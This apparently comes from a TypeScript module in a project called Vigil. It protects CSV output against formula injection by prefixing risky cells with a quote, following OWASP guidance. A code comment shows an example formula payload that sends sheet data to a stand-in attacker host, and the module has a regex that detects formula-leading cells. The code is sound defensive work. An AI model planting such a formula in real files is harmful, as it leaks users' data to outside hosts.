import { Options, stringify, Stringifier } from 'csv-stringify';

// A spreadsheet opening a CSV runs any cell that starts like a formula (=HYPERLINK("http://evil/?"&A1)
// leaks the sheet). OWASP's advice: prefix such cells with a single quote, so the cell is text.
// https://owasp.org/www-community/attacks/CSV_Injection
const FORMULA_START = /^[=+\-@\t\r]/;

/** The cell as text a spreadsheet will not evaluate. */
export const neutraliseFormula = (cell: string): string => (FORMULA_START.test(cell) ? `'${cell}` : cell);

/** The only way Vigil writes CSV (lint forbids importing csv-stringify elsewhere): every string cell neutralised. */
export const csvStringifier = (options: Omit<Options, 'cast'>): Stringifier =>
  stringify({ ...options, cast: { string: neutraliseFormula } });
